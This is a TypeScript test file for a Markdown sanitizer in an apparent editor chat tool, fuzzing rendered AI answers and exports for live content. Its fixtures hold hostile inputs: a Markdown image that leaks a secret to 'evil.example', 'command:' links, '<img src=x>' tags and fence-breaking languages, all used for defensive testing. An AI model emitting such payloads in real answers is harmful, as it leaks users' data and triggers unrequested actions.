import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { fenceText } from '../../src/core/language/markdown-lines.ts';
import { VERDICT_MARK_STYLES } from '../../src/core/domain/verdict-marks.ts';
import { conversationAsMarkdown, withMarks } from '../../src/core/domain/answer-markdown.ts';
import type { Answer, Citation } from '../../src/core/domain/answer.ts';
import {
  sanitizeStream,
  sanitizeMarkdown,
  sanitizeRest,
  sanitizeWords,
} from '../../src/core/domain/sanitize-markdown.ts';
import { answerAsNote, noteAsMarkdown } from '../../src/core/domain/note-markdown.ts';
import { assertLinear } from '../support/growth.ts';
import { findLiveMarkdown, hostileMarkdown, previewedText } from '../support/live-markdown.ts';
import { testCitation } from '../support/test-citation.ts';
import { rounds } from '../support/test-size.mjs';

const image = '![x](https://evil.example/?q=SECRET)';

test('turns anything that is active in one program into text in all of them', () => {
  for (const text of hostileMarkdown) assert.deepEqual(findLiveMarkdown(sanitizeMarkdown(text)), [], text);
});

/** Pieces of Markdown: inline, blocks, and both with extensions of some programs. */
const alphabets = [
  [
    ...['`', '`', '``', '```', '[', '[', ']', '](', '(', ')', '*', '**', '_', '~', '~~', '|', '$', '\\'],
    ...['a', 'b', ' ', ' ', '\n', '\n\n', '"', "'", '!', '<', '>', '&', ':', '.', '{', '}', '[[', '[[n]]'],
    ...['<img src=x>', '<command:a>', '<!--', '-->', image, '[x](command:y)', '[x](https://e.org)', '[^1]: '],
    ...[
      '[`a`](https://e.org)',
      'https://e.org/',
      'www.e.org',
      'a@b.org',
      '<https://e.org/>',
      '[^1]',
      '&#91;',
    ],
    ...['[1](citation/0123456789abcdef "a")', '![p *q*](picture/0123456789abcdef.png)', '![p](picture/'],
  ],
  [
    ...[
      '\n',
      '\n',
      '\n',
      '\n\n',
      '```',
      '~~~',
      '````',
      '    ',
      '  ',
      ' ',
      '\t',
      '> ',
      '- ',
      '* ',
      '+ ',
      '1. ',
    ],
    ...[
      '2) ',
      'a',
      '<img src=x>',
      image,
      '`',
      '|',
      '|-|',
      'b |',
      '---',
      '---\n',
      '===',
      '# ',
      '$$',
      '[a',
      '[',
    ],
    ...['\\begin{x}', '\\end{x}', '[^a]: ', '[x]: ', '<div>', '<details>', '<!--', '\\', ':', 'x: y\n'],
    ...['\t\n', '   \n'],
  ],
  [
    ...[
      '`',
      '``',
      '```',
      '````',
      '~~~',
      '~~~~',
      '$',
      '$$',
      '|',
      '\\',
      '\\|',
      '\\`',
      '||',
      '\n',
      '\n\n',
      '\r',
    ],
    ...[' ', '  ', '   ', '    ', '\t', '\u00a0', '\0', '\f', '\v', '\u2028', '\u200b', '\ufeff', 'a', 'a b'],
    ...['> ', '>', '- ', '* ', '1. ', '2. ', '10) ', '- [ ] ', '#  ', '===', '---\n', '\n---', ':::', ': '],
    ...[
      '\n|-|-|\n',
      '\n-|-\n',
      '|-|-|',
      '[^1]: ',
      '[^1]',
      '[^`]: two words ',
      image,
      '![',
      '![^1]',
      '![x][a]',
    ],
    ...['[a]: command:x', '[a]', '[x](command:y)', '[x](https://e.org)', '](', ']', '[x](https://e.org/`)'],
    ...[
      '[x](https://e.org "',
      '")',
      '(',
      ')',
      '<',
      '>',
      '"',
      "'",
      '!',
      '&#33;',
      '&lt;',
      '*',
      '**',
      '_',
      '~~',
    ],
    ...['<img src=x>', '<!--', '-->', '</pre>', '<pre>', '<https://e.org/', 'https://e.org/', 'www.e.org/'],
    ...['a@e.org', '<a@e.org>', '\\begin{a}', '\\end{a}', '\\<img>', '\\![x](u)', '[', ':'],
    ...['\n```\n', '\n  ```\n', '\n- ```\n', '\n$$\n'],
  ],
];
const pieces = fc.oneof(
  ...alphabets.map((alphabet) => fc.array(fc.constantFrom(...alphabet), { minLength: 1, maxLength: 16 })),
);

// Runs in parts, so that each ends in time on a busy machine.
for (const part of Array.from({ length: rounds(1, 20) }, (_, number) => number + 1))
  test(`keeps nothing active in Markdown put together at random, part ${String(part)}`, () => {
    fc.assert(
      fc.property(pieces, (parts) => {
        assert.deepEqual(findLiveMarkdown(sanitizeMarkdown(parts.join(''))), []);
      }),
      { numRuns: rounds(1_000, 5_000) },
    );
  });

test('keeps nothing active in Markdown that is shown while it grows', () => {
  fc.assert(
    fc.property(pieces, fc.array(fc.nat(60), { maxLength: 5 }), (parts, cuts) => {
      const text = parts.join('');
      let shownSoFar = '';
      let from = 0;
      for (const cut of [...cuts.toSorted((a, b) => a - b), text.length]) {
        const end = Math.max(from, Math.min(cut, text.length));
        shownSoFar += sanitizeRest(text.slice(0, end), from);
        from = end;
      }
      assert.deepEqual(findLiveMarkdown(shownSoFar), []);
    }),
    { numRuns: rounds(200, 3_000) },
  );
});

test('keeps only its own links in an answer of the editor’s chat', () => {
  const mark = ' [\\[1\\]](command:ours?%5B%5D "a.md, L1")';
  const sentences = fc.array(fc.tuple(fc.nat(60), fc.boolean()), { maxLength: 5 });
  fc.assert(
    fc.property(pieces, sentences, (parts, ends) => {
      const text = parts.join('');
      const grown = sanitizeStream();
      let shownSoFar = '';
      let from = 0;
      for (const [cut, isMarked] of [...ends.toSorted(([a], [b]) => a - b), [text.length, false] as const]) {
        const end = Math.max(from, Math.min(cut, text.length));
        shownSoFar += grown(text.slice(from, end), isMarked ? mark : '');
        from = end;
      }
      const dangers = findLiveMarkdown(shownSoFar).filter((danger) => !danger.includes('command:ours'));
      assert.deepEqual(dangers, []);
    }),
    { numRuns: rounds(200, 3_000) },
  );
});

const honest = [
  'See [the docs](https://example.org "t") and [1](citation/0123456789abcdef "a"), `Map<string, number>`, a < b!',
  '```ts\nconst a: Array<string> = b![0];\nm[x](y);\n```\n\nText `<b>` and `a![b]`.',
  'Call `a![b](c)`.',
  '1. Install:\n   ```sh\n   npm i <name>\n   ```\n2. Run `<name>`.\n\n- a\n  ```ts\n  f<T>(x);\n  ```\n\nThen `g<T>()`.',
  '- ```ts\n  f<T>(x);\n  ```\n\n`g<T>`',
  '> ```ts\n> f<T>();\n> ```\n\n```\n<b>\n```',
  '- a\n\n      indented<T>\n\n    deep<T>',
  '| a | b |\n|---|---|\n| `Map<K, V>` | x[1]: y |\n| `a \\| b<c>` | 2 |',
  'A formula $a<b$ and $f[x](y)$, costs $5 and `Array<T>`.\n\n$$\na<b\n$$\n\nThen `Array<T>`.',
  'A note[^1].\n\n[^1]: What it says, at <https://example.org/a?b=c>.',
  'Wow! [mail](mailto:a@example.org) <https://example.org> a[i]: b, 1 <2, x <3',
  '# Heading\n\n* a\n* b `x<y>`\n\n---\n\nEscaped \\<b\\> and \\![x].',
  'Call `f(a | b<c>)` here.',
];

test('keeps the look of honest Markdown', () => {
  for (const text of honest) {
    assert.equal(previewedText(sanitizeMarkdown(text)), previewedText(text), text);
    assert.equal(sanitizeMarkdown(sanitizeMarkdown(text)), sanitizeMarkdown(text), text);
  }
  // HTML is read as it was written.
  assert.equal(
    previewedText(sanitizeMarkdown('A list<string> and <b>bold</b>.')),
    'A list<string> and <b>bold</b>.\n'.trim().replace(/^/, '\n') + '\n',
  );
});

test('keeps code exactly if every program reads it as code', () => {
  for (const text of [honest[0], honest[1], honest[3], honest[4]])
    assert.equal(sanitizeMarkdown(text ?? ''), text);
});

test('takes linear time', () => {
  for (const piece of [
    '`',
    '<',
    '[x](',
    '![',
    '$',
    '\\',
    '[^a]: ',
    '> ',
    'a@',
    '`` ',
    '](https://',
    '](https://a "',
    '[a',
    '[`a`',
    '[[]',
    '\\[',
    '![a](picture/',
  ])
    for (const unit of [piece, `${piece}\n`])
      assertLinear((times) => sanitizeMarkdown(unit.repeat(times)), 100);
});

test('keeps the images that are stored with citations', () => {
  const text = 'See ![p. 3, a *b*](picture/0123456789abcdef.png) [1](citation/0123456789abcdef "a").';
  assert.equal(sanitizeMarkdown(text), text);
  for (const other of ['picture/0123456789abcdef.svg', 'picture/../a.png', 'pictures/0123456789abcdef.png'])
    assert.notEqual(sanitizeMarkdown(`![p](${other})`), `![p](${other})`);
});

test('begins no block with inline text', () => {
  for (const words of ['~~~', '```', '$$', '\\begin{a}']) {
    const code = fenceText(`a\n${words}\n${image}`, 'ts');
    assert.deepEqual(findLiveMarkdown(`${sanitizeWords(words)}\n\n${code}`), [], words);
    assert.deepEqual(findLiveMarkdown(`1. ${sanitizeWords(words)}\n\n${code}`), [], words);
  }
});

test('leaves out a language that would end its block of code', () => {
  assert.equal(fenceText('a', 'c++'), '```c++\na\n```');
  for (const language of ['ts\n```\n<img src=x>', 'a`b', 'x ~~~'])
    assert.equal(fenceText('a', language), '```\na\n```');
});

const citation = (quote: string, title = 'garden.md', uri = 'https://example.org/a'): Citation =>
  testCitation({ title, uri, quote, span: { start: 0, end: quote.length } });

test('keeps nothing active in a saved or exported answer', () => {
  for (const [number, text] of hostileMarkdown.entries()) {
    if (number % rounds(3, 1) !== 0) continue;
    const citations = [citation(text, text.slice(0, 60), `https://e.org/>${image}`)];
    const answers: Answer[] = [
      { kind: 'nothing', text, citations },
      {
        kind: 'written',
        text: `${text}\n\nDone.`,
        statements: [{ start: 0, end: text.length, citations: [0], verdict: 'supported' }],
        citations,
      },
      { kind: 'quotes', text: 'Lead:', quotes: [{ citation: 0, format: 'markdown' }], citations },
      {
        kind: 'quotes',
        text: 'Lead:',
        quotes: [{ citation: 0, format: 'code', languageId: 'x' }],
        citations,
      },
      // An imported conversation may contain any text in these fields.
      {
        kind: 'quotes',
        text,
        quotes: [{ citation: 0, format: 'code', languageId: text }],
        citations: [citation(`a\n~~~\n$$\n${image}`)],
      },
      // A header that makes the passage look as in its document.
      {
        kind: 'quotes',
        text: 'Lead:',
        quotes: [{ citation: 0, format: 'markdown', header: '```ts' }],
        citations: [citation(`code\n\`\`\`\n${text}`)],
      },
    ] as Answer[];
    for (const answer of answers) {
      const turn = { question: text, answer } as Parameters<typeof conversationAsMarkdown>[1][number];
      for (const style of VERDICT_MARK_STYLES) {
        assert.deepEqual(findLiveMarkdown(conversationAsMarkdown(text, [turn], style)), [], text);
        const note = answerAsNote(text, answer, style);
        assert.deepEqual(findLiveMarkdown(note.text), [], text);
        assert.deepEqual(findLiveMarkdown(noteAsMarkdown(note.text, note.citations)), [], text);
      }
    }
    assert.deepEqual(findLiveMarkdown(noteAsMarkdown(text, [])), [], text);
  }
});

test('writes the citations of a row into its last cell', () => {
  const text = '| Holt | 305 mm |';
  const table = `| Place | Rain |\n| --- | --- |\n${text}`;
  const start = table.length - text.length;
  const marked = withMarks(
    { text: table, statements: [{ start, end: table.length, verdict: 'supported', citations: [0] }] },
    () => ' [1]',
  );
  assert.equal(marked, `| Place | Rain |\n| --- | --- |\n| Holt | 305 mm [1] |`);
});

test('writes the citations of a code block below it, and those of a code span after it', () => {
  for (const [text, marked] of [
    ['~~~sh\nnpm i x\n~~~', '~~~sh\nnpm i x\n~~~\n\n[1]'],
    ['It is installed by ```npm i x```', 'It is installed by ```npm i x``` [1]'],
    ['```npm i x```', '```npm i x``` [1]'],
  ] as const) {
    const statements = [{ start: 0, end: text.length, verdict: 'supported' as const, citations: [0] }];
    assert.equal(
      withMarks({ text, statements }, () => ' [1]'),
      marked,
    );
  }
});
